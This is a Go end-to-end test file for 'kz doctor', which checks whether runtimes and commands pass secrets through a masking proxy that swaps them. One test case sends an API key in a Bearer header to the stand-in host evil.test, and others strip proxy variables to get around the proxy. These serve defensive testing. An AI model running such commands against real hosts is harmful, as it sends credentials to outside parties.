package e2e_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"kz/test/bed"
	"kz/test/origin"
)

// diagnosis is what `kz doctor --json` prints, as its help describes it.
type diagnosis struct {
	OK, Swap bool
	Runtimes []struct{ Name, State, Proxy, Trust, Swap string }
	Command  *struct {
		Program, Kind          string
		Configuration          bool
		ExitCode               int `json:"exit_code"`
		Hosts                  []doctorHost
		Direct, Swapped, Never []string
	}
	Findings []doctorFinding
}

type doctorHost struct {
	Host                string
	Requests, Untrusted int
	Refused             map[string]int
}

type doctorFinding struct{ ID, Weight, Title, Why, Fix string }

// finding is the first with that id; of no weight when there is none.
func (d diagnosis) finding(id string) doctorFinding {
	if i := slices.IndexFunc(d.Findings, func(f doctorFinding) bool { return f.ID == id }); i >= 0 {
		return d.Findings[i]
	}
	return doctorFinding{}
}

// examine runs `kz doctor --json`, with a command when there is one, which must end with the given code and tell no value.
func examine(t *testing.T, b *bed.Bed, code int, command ...string) diagnosis {
	t.Helper()
	args := []string{"doctor", "--json", "--config", b.WriteBundle()}
	if command != nil {
		args = append(append(args, "--"), command...)
	}
	res := b.KZ(args...)
	res.Exits(t, code)
	b.Clean(res)
	return diagnosed(t, res)
}

func diagnosed(t *testing.T, res bed.Result) (d diagnosis) {
	t.Helper()
	if err := json.Unmarshal(res.Stdout, &d); err != nil {
		t.Fatalf("no JSON: %v\n%s%s", err, res.Stdout, res.Stderr)
	}
	return d
}

// pathOf makes a PATH of the given programs.
func pathOf(t *testing.T, b *bed.Bed, programs ...string) string {
	t.Helper()
	dir := b.Path("home/bin")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	for _, p := range programs {
		if err := os.Symlink(p, filepath.Join(dir, filepath.Base(p))); err != nil {
			t.Fatal(err)
		}
	}
	b.Env = append(b.Env, "PATH="+dir)
	return dir
}

func TestDoctorMeasuresTheRuntimesOfThisMachine(t *testing.T) {
	t.Parallel()
	b := bed.New(t)
	b.Secret("API_KEY", `hosts = ["api.test"]`)
	pathOf(t, b, bed.Program(t, "curl"), bed.Program(t, "wget"), bed.Program(t, "git"), bed.Python(t, "requests", "httpx", "aiohttp"), bed.Node(t), bed.Program(t, "java"))
	d := examine(t, b, 0)
	if !d.OK || !d.Swap {
		t.Errorf("ok %v, swap %v: %+v", d.OK, d.Swap, d.Findings)
	}
	var rows []string
	for _, r := range d.Runtimes {
		rows = append(rows, r.Name)
		if r.State != "ok" || r.Proxy != "yes" || r.Trust != "yes" || r.Swap != "yes" {
			t.Errorf("%+v: %+v", r, d.finding("runtime-"+r.State))
		}
	}
	if got, want := strings.Join(rows, ", "), "curl, wget, git, Python urllib, Python requests, Python httpx, Python aiohttp (trust_env), Node fetch, Java"; got != want {
		t.Errorf("it tried %s; want %s", got, want)
	}
}

func TestDoctorTellsRuntimesThatWillNotWork(t *testing.T) {
	t.Parallel()
	curl, python := bed.Program(t, "curl"), bed.Python(t)
	b := bed.New(t)
	b.Secret("API_KEY", `hosts = ["api.test"]`)
	dir := pathOf(t, b, "/bin/sh")
	for name, script := range map[string]string{
		"curl":    "exec " + curl + ` --cacert ` + b.Path("etc/ca.pem") + ` "$@"`, // it pins the authority of others
		"python3": "exec /usr/bin/env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy " + python + ` "$@"`,
		"wget":    "echo no such thing >&2; exit 1",
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte("#!/bin/sh\n"+script+"\n"), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	d := examine(t, b, 0)
	for id, c := range map[string]struct{ about, fix, weight string }{
		"runtime-untrusted": {"curl does not trust the CA", "take cacert and capath out of ~/.curlrc", "warning"},
		"runtime-direct":    {"Python ", "sitecustomize", "warning"},
		"runtime-broken":    {"wget does not work here", "install it anew", "note"},
	} {
		if f := d.finding(id); f.Weight != c.weight || !strings.HasPrefix(f.Title, c.about) || !strings.Contains(f.Fix, c.fix) {
			t.Errorf("%s is %+v", id, f)
		}
	}
	states := map[string]string{}
	for _, r := range d.Runtimes {
		states[r.Name] = r.State + " " + r.Proxy + " " + r.Trust
	}
	if states["curl"] != "untrusted yes no" || states["Python urllib"] != "direct no -" || states["wget"] != "broken - -" {
		t.Errorf("the table says %v", states)
	}
}

func TestDoctorTellsWhatACommandDid(t *testing.T) {
	t.Parallel()
	curl := bed.Program(t, "curl")
	call := curl + ` -sS -o /dev/null -H "Authorization: Bearer $API_KEY" `
	for _, c := range []struct {
		name, script string
		code         int
		check        func(t *testing.T, b *bed.Bed, d diagnosis)
	}{
		{"one that works, with its exit code", call + `https://api.test/echo; exit 7`, 0, func(t *testing.T, _ *bed.Bed, d diagnosis) {
			if c := d.Command; c.ExitCode != 7 || !c.Configuration || len(c.Hosts) != 1 || c.Hosts[0].Host != "api.test" || c.Hosts[0].Requests != 1 || strings.Join(c.Swapped, " ") != "API_KEY" || c.Kind != "sh" {
				t.Errorf("it did %+v", c)
			}
		}},
		{"one that does not trust", call + `--cacert "$HOME/../etc/ca.pem" https://api.test/echo`, 1, func(t *testing.T, b *bed.Bed, d diagnosis) {
			if f := d.finding("command-untrusted"); f.Weight != "error" || !strings.HasSuffix(f.Title, "toward api.test") || !strings.Contains(f.Fix, "kz doctor -- ") {
				t.Errorf("it finds %+v", d.Findings)
			}
			if slices.ContainsFunc(b.Origin.Requests(), func(r origin.Record) bool { return r.Path == "/echo" }) {
				t.Error("the origin was reached")
			}
		}},
		{"one that does not trust, and says nothing of it", bed.Program(t, "wget") + ` -q --ca-certificate="$HOME/../etc/ca.pem" https://api.test/echo`, 1, func(t *testing.T, _ *bed.Bed, d diagnosis) {
			if f := d.finding("command-untrusted"); !strings.HasSuffix(f.Title, "toward api.test") {
				t.Errorf("it finds %+v", d.Findings)
			}
		}},
		{"one that goes where it may not", call + `https://evil.test/echo`, 0, func(t *testing.T, _ *bed.Bed, d diagnosis) {
			// A host that is not bound is tunnelled; in clear the mask is seen, and refused.
			if d.finding("command-unswapped").Weight != "note" {
				t.Errorf("it finds %+v", d.Findings)
			}
		}},
		{"one that is refused", call + `http://api.test/echo`, 0, func(t *testing.T, _ *bed.Bed, d diagnosis) {
			if f := d.finding("command-refused"); f.Weight != "warning" || !strings.Contains(f.Title, "cleartext") || !strings.Contains(f.Fix, "https://") {
				t.Errorf("it finds %+v", d.Findings)
			}
		}},
		{"one that leaves the proxy out", `env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy ` + call + `https://api.test/echo`, 0, func(t *testing.T, _ *bed.Bed, d diagnosis) {
			if f := d.finding("command-silent"); f.Weight != "warning" || !strings.Contains(f.Title, "ended with 6") {
				t.Errorf("it finds %+v", d.Findings)
			}
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			b := bed.New(t)
			b.Secret("API_KEY", `hosts = ["api.test"]`)
			pathOf(t, b, "/bin/sh", "/usr/bin/env")
			d := examine(t, b, c.code, shell(c.script)...)
			if d.Command == nil {
				t.Fatalf("nothing is said of the command: %+v", d)
			}
			c.check(t, b, d)
		})
	}

	t.Run("with a secret of its own where the configuration cannot be used", func(t *testing.T) {
		t.Parallel()
		b := bed.New(t)
		b.Secret("API_KEY")
		pathOf(t, b, "/bin/sh")
		d := examine(t, b, 1, shell(curl+` -sS -H "Authorization: Bearer $KZ_DOCTOR_KEY" https://any.doctor.test/ >&2; test -z "$API_KEY"`)...)
		if d.finding("hosts-missing").Weight != "error" {
			t.Errorf("it finds %+v", d.Findings)
		}
		if c := d.Command; c == nil || c.Configuration || c.ExitCode != 0 || strings.Join(c.Swapped, " ") != "KZ_DOCTOR_KEY" {
			t.Errorf("the command did %+v", c)
		}
	})
}
